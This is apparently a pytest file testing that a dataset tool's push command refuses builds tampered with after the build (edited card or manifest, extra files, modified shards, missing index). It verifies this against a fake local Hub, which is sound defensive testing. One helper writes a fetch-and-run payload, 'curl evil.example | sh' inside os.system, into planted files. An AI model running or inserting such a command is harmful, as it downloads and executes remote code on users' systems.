"""Push publishes exactly the build: every file the manifest lists, unchanged, and nothing else.

Each case builds a real (small) finebench folder, tampers with it the way a user or an attacker
could after the build, and pushes through the CLI to the loopback fake Hub: the push must stop
with one line naming the problem, and the Hub must receive no commit and no tag.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from hub_server import FakeHub
from huggingface_hub import constants

from pipelines.core.buildindex import INDEX_NAME
from tests.badinput import run_cli
from tests.conftest import excerpt_head, shared_file
from tests.test_hub import TOKEN, isolated_hf  # noqa: F401  (autouse: no real token, no network)

REPO = "fineforge-test/integrity"
pytestmark = pytest.mark.timeout(120)


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    csv = excerpt_head(tmp_path_factory.mktemp("in"), 120)
    out = tmp_path_factory.mktemp("pristine")
    # 49 persons of one scene, 44 of them standing: balanced keys (the default) leave nothing to
    # ask about so small a slice, so the key cap is lifted; this test is about pushing, not balance
    done = run_cli("finebench", "build", "--out", out, "--ava-csv", csv, "--labels",
                   shared_file("ava", "ava_action_list_v2.2.pbtxt"), "--version", "0.1.1", "--no-progress",
                   "--max-key-ratio", "1")
    assert done.status == 0, done.stderr
    return out


@pytest.fixture
def out(pristine: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "out"
    shutil.copytree(pristine, copy)
    return copy


@pytest.fixture
def hub(monkeypatch: pytest.MonkeyPatch):
    with FakeHub(token=TOKEN) as server:
        monkeypatch.setenv("HF_TOKEN", TOKEN)
        monkeypatch.setattr(constants, "ENDPOINT", server.url)
        yield server


def push(out: Path, *extra: str):
    return run_cli("finebench", "push", "--hub-repo", REPO, "--version", "0.1.1", "--out", out, *extra)


def nothing_published(hub: FakeHub) -> bool:
    return (("dataset", REPO) not in hub.repos
            or (hub.repo(REPO).user_commits() == [] and hub.repo(REPO).tags == {}))


def test_an_untouched_build_is_pushed_whole(out: Path, hub: FakeHub) -> None:
    assert push(out).status == 0
    build = out / "finebench" / "0.1.1"
    manifest = json.loads((build / "manifest.json").read_text())
    (commit,) = hub.repo(REPO).user_commits()
    assert set(commit.sent) == {*manifest["files"], "manifest.json"}
    assert "README.md" in manifest["files"]  # the card is covered by the manifest
    assert hub.repo(REPO).tags == {"v0.1.1": commit.oid}


def _edit_card(build: Path) -> None:
    (build / "README.md").write_text((build / "README.md").read_text() + "\nAll rights reserved.\n")


def _edit_counts(build: Path) -> None:
    manifest = json.loads((build / "manifest.json").read_text())
    manifest["configs"]["mcq"] += 1000
    (build / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")


def _edit_counts_and_rehash(build: Path) -> None:
    """An attacker who also recomputes the index digest still lacks the signing key."""
    import hashlib

    _edit_counts(build)
    index = json.loads((build / INDEX_NAME).read_text())
    index["manifest_sha256"] = hashlib.sha256((build / "manifest.json").read_bytes()).hexdigest()
    (build / INDEX_NAME).write_text(json.dumps(index))


def _add_file(rel: str):
    def add(build: Path) -> None:
        (build / rel).parent.mkdir(parents=True, exist_ok=True)
        (build / rel).write_text("import os; os.system('curl evil.example | sh')\n")
    return add


def _edit_shard(build: Path) -> None:
    shard = next((build / "data" / "mcq").glob("*.parquet"))
    shard.write_bytes(shard.read_bytes()[:-9] + b"\x00" * 9)


def _drop_index(build: Path) -> None:
    (build / INDEX_NAME).unlink()


def _edit_listed_hash(build: Path) -> None:
    """Re-list a tampered file with its new hash: the manifest then no longer matches the index."""
    _edit_card(build)
    import hashlib

    manifest = json.loads((build / "manifest.json").read_text())
    manifest["files"]["README.md"] = hashlib.sha256((build / "README.md").read_bytes()).hexdigest()
    (build / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")


TAMPERING = {
    "card_edited": (_edit_card, "README.md changed"),
    "manifest_counts_edited": (_edit_counts, "manifest.json: edited after the build"),
    "manifest_rehashed_without_key": (_edit_counts_and_rehash, "signature does not verify"),
    "manifest_relisted": (_edit_listed_hash, "edited after the build"),
    "extra_export_file": (_add_file("exports/vlmevalkit/evil.py"),
                          "exports/vlmevalkit/evil.py: is not listed"),
    "extra_top_level_file": (_add_file("notes.txt"), "notes.txt: is not listed"),
    "extra_data_shard": (_add_file("data/mcq/test-00009-of-00009.parquet"), "is not listed"),
    "shard_modified": (_edit_shard, "changed since the manifest was written"),
    "index_missing": (_drop_index, "missing or unreadable build index"),
}


@pytest.mark.parametrize("case", sorted(TAMPERING))
def test_tampered_build_is_refused_before_anything_is_sent(out: Path, hub: FakeHub, case: str) -> None:
    tamper, problem = TAMPERING[case]
    tamper(out / "finebench" / "0.1.1")
    push(out).assert_one_line_error(problem)
    assert nothing_published(hub)
    assert hub.calls == []  # refused while planning: not even the repo was created


def test_private_push_to_an_existing_public_repo_is_refused(out: Path, hub: FakeHub) -> None:
    hub.create_repo(REPO, private=False)
    push(out, "--private").assert_one_line_error("already exists and is PUBLIC")
    assert nothing_published(hub) and not hub.repo(REPO).private


def test_private_push_creates_a_private_repo(out: Path, hub: FakeHub) -> None:
    assert push(out, "--private").status == 0
    assert hub.repo(REPO).private and hub.repo(REPO).tags
